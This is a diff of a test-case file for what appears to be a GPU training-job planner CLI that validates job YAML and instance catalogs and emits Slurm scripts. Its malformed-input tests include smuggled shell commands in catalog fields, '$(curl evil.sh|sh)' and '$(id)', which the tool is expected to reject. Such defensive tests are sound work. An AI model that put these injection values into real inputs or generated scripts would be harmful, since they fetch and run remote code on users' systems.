@@ -144,7 +144,6 @@ job("seq_len huge", JOB.replace("  method: lora\n", "  method: lora\n  seq_len: 
 job("global_batch -1", JOB.replace("  method: lora\n", "  method: lora\n  global_batch: -1\n"), "global_batch")
 job("global_batch huge", JOB.replace("  method: lora\n", "  method: lora\n  global_batch: 1000000000\n"), "global_batch")
 job("lora_rank huge", JOB.replace("  method: lora\n", "  method: lora\n  lora_rank: 1000000\n"), "lora_rank")
-job("epochs .nan", JOB + "", "epochs", files_override=None) if False else None
 job("epochs .nan", "model: Llama-2-7B\ntrain:\n  data:\n    tokens: 1B\n    epochs: .nan\n", "epochs")
 job("epochs .inf", "model: Llama-2-7B\ntrain:\n  data:\n    tokens: 1B\n    epochs: .inf\n", "epochs")
 job("epochs 0", "model: Llama-2-7B\ntrain:\n  data:\n    tokens: 1B\n    epochs: 0\n", "epochs")
@@ -318,8 +317,6 @@ ROW = "mycloud,{it},us-1,H100-SXM5-80GB,8,,192,2048,,400,nvswitch,infiniband,320
 def inst(name, body, field, cmd=None, **kw):
     args = ["--catalog", "instances.csv"] + (cmd or ["instances"])
     case(f"catalog: {name}", args, field=field, files={"instances.csv": HDR + body}, **kw)
-inst("newline and $(curl) in instance_type", ROW.format(it='"p5\n$(curl evil.sh|sh)"', price="10", notes="x"), "instance_type",
-     cmd=["emit", "slurm", "--job", "j.yaml"]) if False else None
 case("catalog: newline and $(curl) in instance_type, then emit slurm",
      ["--catalog", "instances.csv", "instances"], field="instance_type",
      files={"instances.csv": HDR + ROW.format(it='"p5\n$(curl evil.sh|sh)"', price="10", notes="x")})
@@ -368,7 +365,6 @@ sky("price nan", "p5.48xlarge,H100,8,192,2048,nan,us-east-1,,\n", "vms.csv")
 sky("count 1e12 (a fractional/odd count: row skipped)", "p5.48xlarge,H100,1000000000000,192,2048,98,us-east-1,,\n", None, rc=0)
 sky("unsafe names skipped", 'p5.48xlarge,H100,8,192,2048,98,us-east-1,,\n"x\n$(id)",H100,8,192,2048,98,us-east-1,,\n', None, rc=0)
 sky("unterminated quote", 'p5.48xlarge,"H100,8\n', "vms.csv")
-sky("no cloud", "p5.48xlarge,H100,8,192,2048,98,us-east-1,,\n", "--catalog") if False else None
 case("skypilot: cannot tell the cloud", ["--catalog", "vms.csv", "instances"], field="--catalog",
      files={"vms.csv": SKY_HDR + "p5.48xlarge,H100,8,192,2048,98,us-east-1,,\n"})
 
@@ -446,7 +442,6 @@ plan("rank 0", PLAN_TRAIN, "--rank", extra=["--rank", "0"])
 plan("rank 99", PLAN_TRAIN, "--rank", extra=["--rank", "99"])
 plan("rank -1", PLAN_TRAIN, "--rank", extra=["--rank", "-1"])
 plan("instance_type array", mod(["plans", 0, "instance_type"], [[[1]]]), "instance_type")
-plan("invalid utf-8", None or "", "--plan") if False else None
 case("plan json: invalid utf-8", ["emit", "slurm", "--plan", "p.json"], field="--plan",
      hex={"p.json": json.dumps(mod(["job", "model"], "@@")).replace("@@", "x\xff").encode("latin-1").hex()})
 case("plan json: 17 MiB", ["emit", "slurm", "--plan", "p.json"], field="--plan",
@@ -488,6 +483,13 @@ case("stdout /dev/full: --json plan train", ["--json", "plan", "train", "--token
 case("stdout /dev/full: emit", ["emit", "slurm", "--plan", "p.json"], field="stdout", stdout="/dev/full", files={"p.json": GOOD})
 case("stdout closed: --json plan train", ["--json", "plan", "train", "--tokens", "1B"], field="stdout", stdout="closed")
 case("stdout closed: gpus", ["gpus"], field="stdout", stdout="closed")
+
+# --- endless inputs (character devices) stop at the size cap --------------------------------
+case("endless: plan train -f /dev/zero", ["plan", "train", "-f", "/dev/zero"], field="-f", timeout_s=10)
+case("endless: validate /dev/zero", ["validate", "/dev/zero"], field="FILE", timeout_s=20)
+case("endless: --catalog /dev/zero", ["--catalog", "/dev/zero", "gpus"], field="--catalog", timeout_s=20)
+case("endless: emit --plan /dev/zero", ["emit", "slurm", "--plan", "/dev/zero"], field="--plan", timeout_s=10)
+case("endless: memory --model /dev/zero", ["memory", "--model", "/dev/zero"], field="--model", timeout_s=10)
 
 # --- misc global -----------------------------------------------------------------------------
 case("no such subcommand", ["bogus"], field="bogus")
